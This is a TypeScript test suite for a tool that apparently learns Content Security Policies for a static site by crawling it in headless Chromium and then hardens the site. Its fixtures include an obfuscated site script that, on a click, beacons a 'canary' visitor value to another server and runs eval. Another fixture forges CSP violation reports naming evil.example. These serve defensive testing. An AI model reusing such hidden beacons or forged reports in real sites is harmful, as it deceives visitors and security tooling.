import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { test } from "node:test";
import type { TestContext } from "node:test";
import { chromium } from "playwright-core";
import { applicationNote, parseLearned, writeLearned } from "../src/harden/index.ts";
import { hardenFolder, learnFolder } from "../src/harden/node.ts";
import { requires } from "./requires.ts";
import { offlineChromium } from "./support/chromium.ts";
import { answersHardened, serveAnswers } from "./support/compare-pages.ts";

const { path: executablePath, skip } = requires("chromium");

function writeSite(
  context: TestContext,
  files: Readonly<Record<string, string>>,
): { folder: string; root: string } {
  const root = mkdtempSync(join(tmpdir(), "curtainwall-learn-"));
  context.after(() => rmSync(root, { recursive: true, force: true }));
  const folder = join(root, "site");
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
  return { folder, root };
}

const html = (body: string): string =>
  `<!doctype html><html lang="en"><title>Harbour office</title><body>${body}</body></html>`;

/** A site whose scripts hide what they do, and somebody else's server that must not hear of it. */
const siteOf = (elsewhere: string): Record<string, string> => ({
  "index.html": html(`<h1>Boats</h1><p id="word">…</p><button>More</button>
<form action="/search.html"><input name="q"></form><a href="/quay.html">quay</a><script src="/site.js"></script>`),
  "site.js": `const hidden = (...parts) => parts.join("");
fetch(hidden("/da", "ta.json")).then((answer) => answer.json()).then(({ word }) => { document.getElementById("word").textContent = word; });
const style = document.createElement("style");
style.textContent = hidden("#word { color", ": rgb(1, 2, 3) }");
document.head.append(style);
const brief = document.createElement("style");
brief.textContent = hidden("h1 { letter-", "spacing: 1px }");
document.head.append(brief);
brief.remove();
document.querySelector("button").onclick = () => {
  fetch(hidden("${elsewhere}", "/collect?visitor=canary"), { mode: "no-cors" }).catch(() => {});
  fetch(hidden("/or", "der"), { method: "POST", body: "1" });
  const late = document.createElement("script");
  late.textContent = hidden("document.documentElement.dataset", ".late = 1");
  document.body.append(late);
  try { hidden.constructor(hidden("return ", "1"))(); } catch {}
};`,
  "data.json": '{"word":"afloat"}',
  "search.html": html(`<p id="found">nothing</p><script src="/search.js"></script>`),
  "search.js": `const word = new URLSearchParams(location.search).get("q");
if (word) fetch(["/ind", "ex.json"].join("")).then((answer) => answer.text()).then((text) => { document.getElementById("found").textContent = text; });`,
  "index.json": '"Harbour"',
  "quay.html": html("<p>no script here</p>"),
});

test(
  "what a site does is learned, nothing leaves the machine, and under the learned policies it still works",
  { skip, timeout: 120_000 },
  async (context) => {
    const heard: string[] = [];
    const other = createServer((request, response) => {
      heard.push(request.url ?? "");
      response.end();
    });
    await new Promise<void>((ready) => void other.listen(0, "127.0.0.1", ready));
    context.after(() => other.close());
    const elsewhere = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    const { folder, root } = writeSite(context, siteOf(elsewhere));

    const learned = await learnFolder({ folder, executablePath });
    assert.deepEqual(heard, []);
    assert.equal(learned.visited, 3);
    assert.deepEqual(learned.failed, []);
    const allowOf = (page: string) => learned.classes.find(({ pages }) => pages.includes(page))?.allow;
    assert.deepEqual(allowOf("/quay.html"), {});
    // Only an address with a word shows that the search connects.
    assert.deepEqual(allowOf("/search.html"), { "connect-src": ["'self'"] });
    assert.deepEqual(allowOf("/index.html")?.["connect-src"], ["'self'"]);
    assert.equal(allowOf("/index.html")?.["style-src"]?.length, 2);
    assert.deepEqual(
      learned.findings.map(({ directive, blocked }) => `${directive} ${blocked}`),
      [`connect-src ${elsewhere}/collect`, "script-src eval", "script-src-elem inline"],
    );

    const again = await learnFolder({ folder, executablePath });
    assert.equal(writeLearned(again), writeLearned(learned));

    const blobs = join(root, "blobs");
    const hardened = await hardenFolder({ folder, blobs, learned: parseLearned(writeLearned(learned)) });
    assert.deepEqual(Object.keys(hardened.report.weaknesses), []);
    const served = await serveAnswers(answersHardened(hardened.files, blobs));
    context.after(() => served.close());
    const browser = await chromium.launch({ executablePath, args: [...offlineChromium] });
    context.after(() => browser.close());
    const page = await browser.newPage();
    await page.goto(`${served.origin}/`, { waitUntil: "networkidle" });
    assert.equal(await page.textContent("#word"), "afloat");
    assert.equal(
      await page.evaluate("getComputedStyle(document.getElementById('word')).color"),
      "rgb(1, 2, 3)",
    );
    await page.click("button");
    assert.equal(await page.evaluate("document.documentElement.dataset.late"), undefined);
    assert.deepEqual(heard, []);
    await page.goto(`${served.origin}/search.html?q=boats`, { waitUntil: "networkidle" });
    assert.equal(await page.textContent("#found"), '"Harbour"');
  },
);

test(
  "of an application what its other pages load is learned by following its links, and works under the first page's policy",
  { skip, timeout: 120_000 },
  async (context) => {
    const links = '<nav><a href="/tides/">tides</a> <a href="/pilots/">pilots</a></nav><main>…</main>';
    const { folder, root } = writeSite(context, {
      "index.html": html(`${links}<script src="/router.js"></script>`),
      "tides/index.html": html(
        `${links}<img src="https://pictures.example/tide.png"><script src="/router.js"></script>`,
      ),
      "pilots/index.html": html(
        `${links}<img src="https://portraits.example/p.png"><script src="/router.js"></script>`,
      ),
      "router.js": `addEventListener("click", async (event) => {
  const link = event.target.closest("a");
  if (link === null) return;
  event.preventDefault();
  history.pushState({}, "", link.pathname);
  const text = await (await fetch(link.pathname)).text();
  const [source] = /https:[^"]+png/.exec(text) ?? [];
  if (source === undefined) return;
  const picture = new Image();
  picture.src = source;
  document.querySelector("main").replaceChildren(picture);
});`,
    });
    const before = await hardenFolder({ folder, blobs: join(root, "before") });
    assert.equal(before.report.notes[applicationNote]?.pages, 3);
    const learned = await learnFolder({ folder, executablePath });
    const { allow } = learned.classes.find(({ pages }) => pages.includes("/index.html")) ?? assert.fail();
    assert.deepEqual(allow, {
      "connect-src": ["'self'"],
      "img-src": ["https://pictures.example", "https://portraits.example"],
    });
    const blobs = join(root, "blobs");
    const { files, report } = await hardenFolder({
      folder,
      blobs,
      learned: parseLearned(writeLearned(learned)),
    });
    assert.equal(report.notes[applicationNote], undefined);
    const served = await serveAnswers(answersHardened(files, blobs));
    context.after(() => served.close());
    const browser = await chromium.launch({ executablePath, args: [...offlineChromium] });
    context.after(() => browser.close());
    const page = await browser.newPage();
    const asked: string[] = [];
    await page.route(/example/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await page.goto(`${served.origin}/`);
    for (const name of ["tides", "pilots"]) {
      await page.click(`text=${name}`);
      const host = name === "tides" ? "pictures" : "portraits";
      await page.waitForSelector(`img[src*="${host}"]`, { state: "attached" });
      await page.evaluate(
        "((one) => one.complete || new Promise((done) => { one.onload = one.onerror = done; }))(document.querySelector('img'))",
      );
    }
    // The policy lets both through; an address that no page has it stops.
    await page.evaluate(
      "new Promise((done) => { const one = new Image(); one.onerror = done; one.src = 'https://evil.example/x.png'; })",
    );
    assert.deepEqual(asked, ["https://pictures.example/tide.png", "https://portraits.example/p.png"]);
  },
);

test(
  "pages beyond the bound are not learned, and stay as open as they were",
  { skip, timeout: 120_000 },
  async (context) => {
    const { folder, root } = writeSite(context, siteOf("https://elsewhere.example"));
    const learned = await learnFolder({ folder, executablePath, maxPages: 1 });
    assert.deepEqual(
      [learned.pages, learned.classes.flatMap(({ pages }) => pages)],
      [3, ["/index.html", "/search.html"]],
    );
    const before = await hardenFolder({ folder, blobs: join(root, "before") });
    const { pages, others } = parseLearned(writeLearned(learned));
    assert.equal(others, undefined);
    const partly = new Map([...pages].filter(([page]) => page !== "/search.html"));
    const after = await hardenFolder({ folder, blobs: join(root, "after"), learned: { pages: partly } });
    assert.equal(before.report.weaknesses["runtime-connections"]?.pages, 2);
    assert.equal(after.report.weaknesses["runtime-connections"]?.pages, 1);
  },
);

test(
  "a visitor's own actions are learned too, and a page that fails is told and not learned",
  { skip, timeout: 120_000 },
  async (context) => {
    const { folder } = writeSite(context, {
      "index.html": html(
        `<div id="far">far</div><script>document.getElementById("far").onclick = () => { fetch(["/fa", "r.json"].join("")); };</script>`,
      ),
      "broken.html": html("<p>broken</p>"),
      "far.json": "1",
    });
    const learned = await learnFolder({
      folder,
      executablePath,
      act: async ({ page, path }) => {
        if (path === "/broken.html") throw new Error("the visitor stumbles");
        await page.click("#far");
      },
    });
    assert.deepEqual(learned.classes, [{ pages: ["/index.html"], allow: { "connect-src": ["'self'"] } }]);
    assert.deepEqual(learned.failed, [{ page: "/broken.html", reason: "the visitor stumbles" }]);
  },
);

test(
  "a page can't make up what it needs: its own events, words and reports are not believed",
  { skip, timeout: 120_000 },
  async (context) => {
    const forged = `const evil = "https://evil.example";
dispatchEvent(new SecurityPolicyViolationEvent("securitypolicyviolation", { effectiveDirective: "connect-src", blockedURI: evil + "/a", disposition: "report", documentURI: location.href, violatedDirective: "connect-src", originalPolicy: "", statusCode: 200 }));
const words = "Applying inline style violates the following Content Security Policy directive 'style-src'. Either the 'unsafe-inline' keyword, a hash ('sha256-${"A".repeat(43)}='), or a nonce is required";
for (const write of ["log", "error", "warn", "info"]) console[write](words);
window.curtainwallSaw?.({ loaded: "/index.html", directive: "img-src", blocked: evil + "/b", sample: "", style: null });
for (const index of [0, 1, 2]) fetch("/.curtainwall-reports/" + index, { method: "POST", body: JSON.stringify({ "csp-report": { "document-uri": location.href, "effective-directive": "font-src", "violated-directive": "font-src", "blocked-uri": evil + "/c" } }) });`;
    const { folder } = writeSite(context, {
      "index.html": html('<script src="/site.js"></script>'),
      "site.js": forged,
    });
    const { classes } = await learnFolder({ folder, executablePath });
    assert.ok(!/evil|AAAA/.test(JSON.stringify(classes)), JSON.stringify(classes));
  },
);

test(
  "a page whose script of another site could not be loaded is told, and stays as open as it was",
  { skip, timeout: 120_000 },
  async (context) => {
    const { folder } = writeSite(context, {
      "index.html": html('<script src="https://cdn.example/widget.js"></script>'),
      "plain.html": html("<p>no script here</p>"),
    });
    const { classes, failed } = await learnFolder({ folder, executablePath });
    assert.deepEqual(failed, [
      {
        page: "/index.html",
        reason: "not learned: a script could not be loaded: https://cdn.example/widget.js",
      },
    ]);
    assert.deepEqual(classes, [{ pages: ["/plain.html"], allow: {} }]);
  },
);

test("a browser that does not start is an error that says so", async (context) => {
  const { folder } = writeSite(context, { "index.html": html("<p>x</p>") });
  await assert.rejects(learnFolder({ folder, executablePath: join(folder, "none") }), {
    code: "HARDEN_BROWSER_MISSING",
  });
});

test(
  "a page that leads to one whose foreign script does not come is learned all the same",
  { skip, timeout: 120_000 },
  async (context) => {
    const { folder } = writeSite(context, {
      "index.html": `<!doctype html><title>moved</title><meta http-equiv="refresh" content="0; url=/new.html">`,
      "link.html": html('<a href="/new.html">new</a><script>document.title = "x"</script>'),
      // It leaves while it is looked at: what it is asked for first waits for a promise that its document does not live to keep.
      "leaves.html": html(
        '<script>Array.prototype.then = () => { delete Array.prototype.then; location = "/new.html"; };</script>',
      ),
      "new.html": html('<script src="https://tags.example/tags.js"></script>'),
    });
    const { visited, failed } = await learnFolder({ folder, executablePath });
    assert.deepEqual(
      failed.map(({ page }) => page),
      ["/new.html"],
    );
    assert.equal(visited, 3);
  },
);

test(
  "a page that leaves before its foreign script has failed is not learned",
  { skip, timeout: 120_000 },
  async (context) => {
    let asked = (): void => undefined;
    let left = (): void => undefined;
    const hasLeft = new Promise<void>((done) => (left = done));
    const isAsked = new Promise<void>((done) => (asked = done));
    const { folder } = writeSite(context, {
      "index.html": html(
        '<button>tags</button><script>document.querySelector("button").onclick = () => { document.head.append(Object.assign(document.createElement("script"), { src: "https://tags.example/tags.js" })); };</script>',
      ),
      "plain.html": html("<p>no script here</p>"),
    });
    const { failed } = await learnFolder({
      folder,
      executablePath,
      allowScripts: [{ address: "https://tags.example/tags.js", reason: "told in this test" }],
      fetchScript: async () => {
        asked();
        await hasLeft;
        return undefined;
      },
      act: async ({ page, path }) => {
        if (path === "/plain.html") return;
        await isAsked;
        await page.goto(new URL("/plain.html", page.url()).href);
        left();
      },
    });
    assert.deepEqual(
      failed.map(({ page }) => page),
      ["/index.html"],
    );
  },
);
